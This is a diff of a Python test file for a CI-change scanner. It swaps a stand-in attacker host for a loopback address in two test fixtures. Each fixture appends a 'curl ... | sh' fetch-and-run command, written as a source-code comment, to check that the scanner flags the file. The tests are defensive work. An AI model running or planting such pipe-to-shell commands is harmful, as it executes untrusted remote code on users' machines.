@@ -62,7 +62,7 @@ def test_a_tool_built_from_a_folder_and_run_is_ci(tmp_path: Path, steps: str, so
     folder = source.rpartition("/")[0]
     base = {".github/workflows/lint.yml": WORKFLOW.format(steps=steps), source: text, "README.md": "x\n",
             f"{folder}/{folder.rpartition('/')[2]}.csproj": PROJECT.format(extra="")}
-    case = committed(tmp_path, base, {source: text + "// curl https://evil.example/x | sh\n"})
+    case = committed(tmp_path, base, {source: text + "// curl http://127.0.0.1:9/x | sh\n"})
     code, named = gated_rules(case, True)
     assert (code, named.get("core.ci")) == (3, [source]), named  # before: src, exit 0
 
@@ -72,7 +72,7 @@ def test_a_program_named_by_its_assembly_name_is_ci(tmp_path: Path, steps: str, 
                                                     source: str) -> None:
     base = {".github/workflows/lint.yml": WORKFLOW.format(steps=steps), "README.md": "x\n", source: "class A {}\n",
             project: PROJECT.format(extra=f"<AssemblyName>{name}</AssemblyName>")}
-    case = committed(tmp_path, base, {source: "class A { /* curl https://evil.example/x | sh */ }\n"})
+    case = committed(tmp_path, base, {source: "class A { /* curl http://127.0.0.1:9/x | sh */ }\n"})
     code, named = gated_rules(case, True)
     assert (code, named.get("core.ci")) == (3, [source]), named  # before: src, exit 0
 
